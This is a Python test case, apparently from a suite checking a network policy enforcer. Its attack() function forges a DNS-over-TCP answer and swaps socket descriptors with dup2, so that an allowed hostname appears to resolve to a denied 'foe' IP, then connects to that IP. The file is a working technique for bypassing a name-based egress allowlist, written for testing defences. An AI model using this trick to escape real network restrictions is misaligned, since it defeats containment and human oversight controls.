"""A forged answer by descriptor over TCP
The same for a stream.
policy: allowed-names
audit: explicitlyDeniedIP
since: 3.6
proof: arrival
"""
import os
import socket
import struct


def attack(at):
    # The answer says that an allowed name has the foe's address.
    packet = at.query(b"forged.good.test")
    answer = packet[:2] + b"\x85\x80\0\1\0\1\0\0\0\0" + packet[12:] + b"\xc0\x0c\0\1\0\1\0\0\1\0\0\4" + socket.inet_aton(at.FOE)
    asker = at.tcp()
    asker.connect((at.RESOLVER, 53))
    asker.sendall(struct.pack("!H", len(packet)) + packet)
    ours, theirs = socket.socketpair()
    os.dup2(ours.fileno(), asker.fileno())
    theirs.send(struct.pack("!H", len(answer)) + answer)
    at.note(len(os.read(asker.fileno(), 500)))
    asker.detach()
    stream = at.tcp()
    stream.connect((at.FOE, at.PORT))
    return at.say(stream)
